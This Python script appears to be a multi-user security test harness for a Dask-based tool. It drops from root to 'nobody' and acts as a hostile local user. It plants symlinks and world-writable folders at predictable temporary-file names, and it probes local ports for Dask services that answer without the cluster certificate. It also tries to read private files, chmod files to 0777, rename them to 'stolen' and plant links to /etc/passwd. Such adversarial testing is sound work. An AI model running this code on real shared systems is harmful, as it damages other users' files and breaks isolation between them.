"""What another user of the machine tries: root starts it, and it becomes that user once its modules are imported.

Orders come on standard input; the loot is printed as JSON. First it takes predictable names in the folder of temporary
files. Then, until the orders end, it goes for every port that it is told, and for every file and folder that it finds.
"""

import asyncio
import contextlib
import json
import os
import socket
import stat
import sys
import threading
from pathlib import Path

from distributed import Security
from distributed.comm import connect

NOBODY = 65534
NAMES = (
    *("dask-scratch-space", "dask-scratch-space-0", "dask-worker-space", "dask", "distributed", "mltune", "mltune-0"),
    *("mltune-root", "mltune.lock", "mltune-cache", "pymp", "joblib", "cupy", "matplotlib", "cubins", "runs"),
)
LOCKS = ("global.lock", "purge.lock", "run.sqlite", "run.lock", "wisdom.json", "old")
WAIT_S = 2.0
SECURITIES = {"tcp": Security(), "tls": Security.temporary()}


def take_names(temporary: Path, mine: Path, how: str) -> None:
    """Take names: by links to a folder of the user, or by folders in which others are led to it."""
    for name in NAMES:
        if how == "links":
            (temporary / name).symlink_to(mine)
            continue
        folder = temporary / name
        folder.mkdir()
        folder.chmod(0o777)
        for lock in LOCKS:
            (folder / lock).symlink_to(mine / ("folder" if lock == "old" else "kept.txt"))
        (folder / "old.dirlock").touch()  # of a worker that is gone: Dask removes the folder


async def enters(address: str, security: Security) -> bool:
    """Return whether a scheduler, worker or nanny talks to a user without the certificate of its cluster."""
    try:
        options = security.get_connection_args("client")
        comm = await asyncio.wait_for(connect(address, timeout=WAIT_S, **options), 2 * WAIT_S)
        await comm.write({"op": "identity", "reply": True})
        await asyncio.wait_for(comm.read(), WAIT_S)
    except Exception:
        return False
    return True


def knock(port: int, loot: dict) -> None:
    """Go for a port: as HTTP, as Dask, and as Dask with a certificate that it has made itself."""
    answer = b""
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), WAIT_S) as channel:
        channel.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        answer = channel.recv(100)
    found = [answer.partition(b"\r\n")[0].decode(errors="replace")]
    for scheme, security in SECURITIES.items():
        if asyncio.run(enters(f"{scheme}://127.0.0.1:{port}", security)):
            found.append(scheme)
    loot["ports"][port] = found


def search(folders: list[Path], private: list[Path], loot: dict) -> None:
    """Go for every file and folder that is not its own: list and read what is private, write and replace the others."""
    for folder in folders:
        for place, names, files in os.walk(folder):
            for path in [Path(place), *(Path(place) / name for name in (*names, *files))]:
                with contextlib.suppress(OSError):
                    facts = path.lstat()
                    if facts.st_uid != os.getuid() and not stat.S_ISLNK(facts.st_mode):
                        loot["seen"] += 1
                        attack(path, stat.S_ISDIR(facts.st_mode), path not in folders, private, loot)


def attack(path: Path, is_folder: bool, may_go: bool, private: list[Path], loot: dict) -> None:
    def attempt(name: str, action: object, *arguments: object) -> None:
        with contextlib.suppress(OSError):
            action(*arguments)
            loot[name].append(str(path))

    if any(one in path.parents for one in private):
        attempt("read", os.listdir if is_folder else read, path)
    if is_folder and may_go:
        attempt("written", (path / "planted").symlink_to, "/etc/passwd")
    elif not is_folder:
        attempt("written", os.close, os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    if may_go:
        attempt("written", os.chmod, path, 0o777)
        attempt("written", os.rename, path, path.with_name("stolen"))


def read(path: Path) -> None:
    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))


def become_another_user() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


def main() -> None:
    knock(1, {"ports": {}})  # imports what connections need
    become_another_user()
    orders = json.loads(sys.stdin.readline())
    temporary, mine, private = (Path(orders[name]) for name in ("temporary", "mine", "private"))
    take_names(temporary, mine, orders["how"])
    print("ready", flush=True)  # noqa: T201
    loot = {"ports": {}, "read": [], "written": [], "seen": 0}
    knocking = []
    ended = threading.Event()

    def listen() -> None:
        for line in sys.stdin:
            knocking.append(threading.Thread(target=knock, args=(int(line), loot)))
            knocking[-1].start()
        ended.set()

    threading.Thread(target=listen).start()
    while not ended.wait(0.05):  # the campaign needs the core, too
        search([temporary, Path(orders["home"]), Path(orders["work"])], [temporary, private], loot)
    for one in knocking:
        one.join()
    print(json.dumps(loot))  # noqa: T201


if __name__ == "__main__":
    main()
